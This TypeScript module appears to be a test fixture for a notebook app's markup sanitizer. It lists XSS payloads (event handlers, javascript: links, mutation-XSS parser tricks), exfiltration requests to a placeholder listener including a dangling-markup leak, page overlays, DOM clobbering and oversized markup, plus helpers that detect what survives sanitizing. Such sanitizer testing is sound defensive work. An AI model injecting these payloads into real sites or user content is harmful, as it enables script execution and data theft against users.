/** HTML, SVG and Markdown with more in them than text and shapes. A cell shows them; the page draws what is left. */

import { type Targets, toPath } from "./attacks";

export interface Markup {
  name: string;
  language: "html" | "svg" | "markdown";
  /** `AT` stands for an address of the listener that is this one's alone, `TCP` for one that counts connections. */
  source: string;
  /**
   * What it does as a document of its own, to prove it: `asks` the listener for something, or `runs` a script that
   * sets `window.owned`. Without: it needs a click, which the suite gives to everything that is drawn.
   */
  proof?: "asks" | "connects" | "runs";
}

const owned = "window.owned=1";

/** Things that run a script. */
const scripts: Markup[] = [
  { name: "script", language: "html", source: `<script>${owned}</script>`, proof: "runs" },
  { name: "script from an address", language: "html", source: `<script src="AT"></script>`, proof: "asks" },
  {
    name: "handler of an image",
    language: "html",
    source: `<img src="x:" onerror="${owned}">`,
    proof: "runs",
  },
  {
    name: "handler without quotes",
    language: "html",
    source: `<img src=x: onerror=${owned}//>`,
    proof: "runs",
  },
  {
    name: "handler behind a slash",
    language: "html",
    source: `<img/src="x:"/onerror=${owned}>`,
    proof: "runs",
  },
  {
    name: "handler of details",
    language: "html",
    source: `<details open ontoggle="${owned}">x</details>`,
    proof: "runs",
  },
  { name: "handler of a focused element", language: "html", source: `<input autofocus onfocus="${owned}">` },
  { name: "handler of a click", language: "html", source: `<p onclick="${owned}">click</p>` },
  { name: "link that runs", language: "html", source: `<a href="javascript:${owned}">click</a>` },
  {
    name: "link that runs, in disguise",
    language: "html",
    source: `<a href="&#106;ava&Tab;script&colon;${owned}">click</a>`,
  },
  {
    name: "button that runs",
    language: "html",
    source: `<form><button formaction="javascript:${owned}">click</button></form>`,
  },
  {
    name: "frame with a document",
    language: "html",
    source: `<iframe srcdoc="<script>parent.${owned}</script>"></iframe>`,
    proof: "runs",
  },
  {
    name: "SVG that loads",
    language: "svg",
    source: `<svg xmlns="http://www.w3.org/2000/svg" onload="${owned}"><text y="9">x</text></svg>`,
    proof: "runs",
  },
  {
    name: "SVG with a script",
    language: "svg",
    source: `<svg xmlns="http://www.w3.org/2000/svg"><script>${owned}</script></svg>`,
    proof: "runs",
  },
  {
    name: "SVG with HTML inside",
    language: "svg",
    source: `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x:" onerror="${owned}"/></foreignObject></svg>`,
    proof: "runs",
  },
  {
    name: "SVG that animates a handler",
    language: "svg",
    source: `<svg xmlns="http://www.w3.org/2000/svg"><animate onbegin="${owned}" attributeName="x" dur="1s"/></svg>`,
    proof: "runs",
  },
  {
    name: "SVG link that becomes a script",
    language: "svg",
    source: `<svg xmlns="http://www.w3.org/2000/svg"><a><animate attributeName="href" values="javascript:${owned}"/><text y="9">click</text></a></svg>`,
  },
  {
    name: "text that the parser moves out of its place",
    language: "html",
    source: `<form><math><mtext></form><form><mglyph><style></math><img src="x:" onerror="${owned}">`,
  },
  {
    name: "comment inside a style inside mathematics",
    language: "html",
    source: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${owned}&gt;">`,
  },
  {
    name: "attribute that ends noscript",
    language: "html",
    source: `<noscript><p title="</noscript><img src=x: onerror=${owned}>">`,
    proof: "runs",
  },
  {
    name: "template with a script",
    language: "html",
    source: `<template><img src="x:" onerror="${owned}"></template><svg></p><style><a id="</style><img src=x: onerror=${owned}>">`,
    proof: "runs",
  },
  {
    name: "Markdown with HTML",
    language: "markdown",
    source: `<img src="x:" onerror="${owned}">\n\n<script>${owned}</script>`,
  },
  { name: "Markdown with a link that runs", language: "markdown", source: `[click](javascript:${owned})` },
];

/** Things that ask another address for something. */
const requests: Markup[] = [
  { name: "image of an address", language: "html", source: `<img src="AT" alt="x">`, proof: "asks" },
  { name: "image of a set", language: "html", source: `<img srcset="AT 1x" alt="x">`, proof: "asks" },
  {
    name: "picture of a source",
    language: "html",
    source: `<picture><source srcset="AT"><img alt="x"></picture>`,
    proof: "asks",
  },
  { name: "dangling image", language: "html", source: `<p>secret<img src='AT?` },
  { name: "image of an input", language: "html", source: `<input type="image" src="AT">`, proof: "asks" },
  { name: "poster of a video", language: "html", source: `<video poster="AT"></video>`, proof: "asks" },
  { name: "frame of an address", language: "html", source: `<iframe src="AT"></iframe>`, proof: "asks" },
  { name: "object of an address", language: "html", source: `<object data="AT"></object>`, proof: "asks" },
  { name: "embedded address", language: "html", source: `<embed src="AT">`, proof: "asks" },
  {
    name: "linked style sheet",
    language: "html",
    source: `<link rel="stylesheet" href="AT">`,
    proof: "asks",
  },
  {
    name: "linked preconnection",
    language: "html",
    source: `<link rel="preconnect" href="TCP">`,
    proof: "connects",
  },
  { name: "imported style sheet", language: "html", source: `<style>@import "AT";</style>`, proof: "asks" },
  {
    name: "background in a style element",
    language: "html",
    source: `<style>p { background: url(AT) }</style><p>x</p>`,
    proof: "asks",
  },
  {
    name: "background in an attribute",
    language: "html",
    source: `<p style="background: url(AT)">x</p>`,
    proof: "asks",
  },
  {
    name: "background with escapes",
    language: "html",
    source: `<p style="background: u\\72l(AT)">x</p>`,
    proof: "asks",
  },
  {
    name: "background of a set of images",
    language: "html",
    source: `<p style='background: image-set("AT" 1x)'>x</p>`,
    proof: "asks",
  },
  {
    name: "mark of a list",
    language: "html",
    source: `<ul style="list-style-image: url(AT)"><li>x</ul>`,
    proof: "asks",
  },
  {
    name: "background of a table",
    language: "html",
    source: `<table background="AT"><tr><td>x</table>`,
    proof: "asks",
  },
  {
    name: "font in a style element",
    language: "html",
    source: `<style>@font-face { font-family: f; src: url(AT) } p { font-family: f }</style><p>x</p>`,
    proof: "asks",
  },
  {
    name: "refresh",
    language: "html",
    source: `<meta http-equiv="refresh" content="0; url=AT">`,
    proof: "asks",
  },
  { name: "base of all addresses", language: "html", source: `<base href="AT/"><img src="x" alt="x">` },
  { name: "form that is sent", language: "html", source: `<form action="AT"><button>click</button></form>` },
  { name: "link elsewhere", language: "html", source: `<a href="AT" target="_top" ping="AT">click</a>` },
  {
    name: "image in SVG",
    language: "svg",
    source: `<svg xmlns="http://www.w3.org/2000/svg"><image href="AT" width="9" height="9"/></svg>`,
    proof: "asks",
  },
  {
    name: "shape of an address",
    language: "svg",
    source: `<svg xmlns="http://www.w3.org/2000/svg"><use href="AT#x"/></svg>`,
  },
  {
    name: "filter image in SVG",
    language: "svg",
    source: `<svg xmlns="http://www.w3.org/2000/svg"><filter id="f"><feImage href="AT"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
  },
  {
    name: "style sheet in SVG",
    language: "svg",
    source: `<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(AT);</style></svg>`,
    proof: "asks",
  },
  {
    name: "paint of an address",
    language: "svg",
    source: `<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9" fill="url(AT#x)" filter="url(AT#f)"/></svg>`,
  },
  {
    name: "link in SVG",
    language: "svg",
    source: `<svg xmlns="http://www.w3.org/2000/svg"><a href="AT"><text y="9">click</text></a></svg>`,
  },
  { name: "image in Markdown", language: "markdown", source: "![x](AT)" },
  { name: "link in Markdown", language: "markdown", source: "[click](AT) <AT>" },
];

/** Things that pretend to be the page. */
const disguises: Markup[] = [
  {
    name: "names that the page uses",
    language: "html",
    source: `<p id="__next">x</p><img name="getElementById" alt="x"><p id="main" class="cell" data-cell="softmax" data-run="">x</p>`,
  },
  {
    name: "cover over the page",
    language: "html",
    source: `<div style="position: fixed; inset: 0; z-index: 9999; background: red; width: 100vw; height: 100vh">cover</div>`,
  },
  {
    name: "margin that climbs out",
    language: "html",
    source: `<div style="margin-top: -3000px; margin-left: -3000px; width: 9000px; height: 9000px; background: red">cover</div>`,
  },
  {
    name: "SVG that overflows",
    language: "svg",
    source: `<svg xmlns="http://www.w3.org/2000/svg" style="overflow: visible" width="9" height="9"><rect x="-3000" y="-3000" width="9000" height="9000" fill="red"/></svg>`,
  },
  { name: "style of the page", language: "html", source: `<style>body { display: none }</style>` },
];

/** Things that are too much to draw. */
const giants: Markup[] = [
  { name: "deep markup", language: "html", source: "<div>".repeat(10_000) },
  { name: "wide markup", language: "html", source: "<b>x</b>".repeat(10_000) },
  {
    name: "path without end",
    language: "svg",
    source: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1e9 1e9"><path stroke="red" stroke-width="1e8" stroke-dasharray="1" d="M0 0${"L1e9 1e9L0 1e9L1e9 0L0 0".repeat(1_000)}"/></svg>`,
  },
  {
    name: "text larger than all screens",
    language: "html",
    source: `<p style="font-size: 1000000px; letter-spacing: 1000000px; width: 1000000px">x</p>`,
  },
];

export const markups: readonly Markup[] = [...scripts, ...requests, ...disguises, ...giants];

/** The markup with its addresses filled in. */
export function toSource({ name, source }: Markup, { http, tcp }: Targets): string {
  return source.replaceAll("AT", http + toPath(name)).replaceAll("TCP", `http://${tcp}`);
}

/** Draws each markup as a document of its own, as a page that trusts it would. Runs in an ordinary page. */
export function drawTrustingly(sources: Record<string, string>): void {
  for (const [name, source] of Object.entries(sources)) {
    const frame = document.createElement("iframe");
    // Small, for all are in sight: an engine may draw nothing that is not.
    frame.width = frame.height = "60";
    frame.title = name;
    document.body.append(frame);
    frame.contentDocument?.open();
    frame.contentDocument?.write(`<!doctype html><body>${source}`);
    frame.contentDocument?.close();
  }
}

/** The names of those that have run a script. Runs in the page in which they were drawn. */
export function findOwned(): string[] {
  const frames = [...document.querySelectorAll("iframe")];
  return frames.flatMap(({ contentWindow, title }) =>
    (contentWindow as { owned?: number } | null)?.owned === 1 ? [title] : [],
  );
}

/** Clicks on everything that a cell has shown, and says what among it should not be there. Runs in the page. */
export function searchMarkup(id: string): string[] {
  const wrong: string[] = [];
  const outputs = [...document.querySelectorAll<HTMLElement>(`[data-cell="${id}"] [data-output="markup"]`)];
  for (const output of outputs) {
    const frame = output.getBoundingClientRect();
    const isClipped = (element: Element) => {
      for (let above = element.parentElement; above && output.contains(above); above = above.parentElement)
        if (getComputedStyle(above).overflow !== "visible") return true;
      return false;
    };
    const ours = output.querySelector("[data-language]");
    for (const element of output.querySelectorAll("*")) {
      const tag = element.localName;
      if (
        /^(script|iframe|object|embed|form|link|meta|base|style|input|video|audio|foreignobject)$/i.test(tag)
      )
        wrong.push(`<${tag}>`);
      for (const { name, value } of element.attributes)
        if (
          /^(on|id$|name$|class$|data-|srcdoc$|action$|formaction$|ping$)/i.test(name) ||
          /javascript:|url\(/i.test(value)
        )
          if (element !== ours || !/^(class|data-language)$/.test(name))
            wrong.push(`${tag} ${name}="${value}"`);
      if (/fixed|absolute|sticky/.test(getComputedStyle(element).position))
        wrong.push(`${tag} is positioned`);
      const box = element.getBoundingClientRect();
      const isOut = box.top < frame.top - 2 || box.left < frame.left - 2 || box.bottom > frame.bottom + 2;
      if (isOut && !isClipped(element)) wrong.push(`${tag} lies outside its output`);
    }
    for (const element of [...output.querySelectorAll<HTMLElement>("*")].slice(0, 20))
      element.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
  }
  return wrong;
}
